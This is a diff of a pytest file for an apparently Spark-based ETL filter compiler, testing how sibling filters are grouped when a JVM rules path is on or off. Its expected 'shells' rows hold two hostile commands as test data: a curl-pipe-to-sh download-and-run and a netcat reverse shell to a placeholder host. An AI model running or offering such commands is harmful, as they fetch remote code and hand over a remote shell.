@@ -55,7 +55,9 @@ EVENTS = [
 ]
 
 
-def test_sibling_filters_give_the_same_rows_as_alone(spark, tmp_path):
+@pytest.mark.parametrize("rules_jvm", ["on", "off"])
+def test_sibling_filters_give_the_same_rows_as_alone(spark, tmp_path, monkeypatch, rules_jvm):
+    monkeypatch.setenv("ETL_RULES_JVM", rules_jvm)
     out = run_events(spark, tmp_path, SIBLINGS, {"src": EVENTS})
     assert sorted(r["cmd"] for r in out["out_shells"]) == ["curl http://x/a.sh | sh", "nc -e /bin/sh host 4444"]
     assert sorted((r["cmd"] or "", r["code"]) for r in out["out_errors"]) == [
@@ -68,7 +70,16 @@ def test_sibling_filters_give_the_same_rows_as_alone(spark, tmp_path):
     assert all(set(r) == {"cmd", "code"} for r in out["out_shells"] + out["out_errors"])
 
 
-def test_siblings_are_one_mapinarrow_pass_over_their_input(spark, tmp_path):
+def test_a_filter_on_the_jvm_path_leaves_its_sibling_group(spark, tmp_path):
+    c = checked(tmp_path, SIBLINGS)
+    ctx = CompileContext(spark, c.plan.graph, str(tmp_path / "ck"), {"plan": c.plan})
+    # shells: patterns on cmd only (etl.compile.rules_jvm); errors and tagged have native predicates
+    assert [n.id for n in filter_mod.siblings(ctx, c.plan.graph.node("shells"))] == ["shells"]
+    assert [n.id for n in filter_mod.siblings(ctx, c.plan.graph.node("errors"))] == ["errors", "tagged"]
+
+
+def test_siblings_are_one_mapinarrow_pass_over_their_input(spark, tmp_path, monkeypatch):
+    monkeypatch.setenv("ETL_RULES_JVM", "off")  # every filter on the Python path: all three share the pass
     c = checked(tmp_path, SIBLINGS)
     ctx = CompileContext(spark, c.plan.graph, str(tmp_path / "ck"), {"plan": c.plan})
     assert [n.id for n in filter_mod.siblings(ctx, c.plan.graph.node("shells"))] == ["shells", "errors", "tagged"]
